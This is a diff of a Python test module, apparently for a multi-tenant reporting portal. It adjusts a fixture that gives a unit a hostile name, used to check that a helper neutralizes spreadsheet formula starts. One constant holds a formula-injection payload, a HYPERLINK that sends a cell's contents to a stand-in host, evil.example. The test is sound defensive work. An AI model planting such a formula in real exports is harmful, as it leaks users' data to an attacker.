@@ -28,7 +28,6 @@ from portal.reports.report import ReportValue, UnitReport
 from tenants.scoping import system_scope
 from tenants.unit import Unit
 from tests.builders import framework
-from tests.test_dashboard import province  # noqa: F401 - the dashboard's small province
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
@@ -71,7 +70,7 @@ def test_the_one_helper_neutralizes_every_formula_start(value: str) -> None:
 
 
 @pytest.fixture
-def hostile_province(province: int) -> int:  # noqa: F811
+def hostile_province(province: int) -> int:
     """The dashboard's province with a hostile unit name, report text and plan sections."""
     with system_scope("test"):
         unit("D1").name = HOSTILE
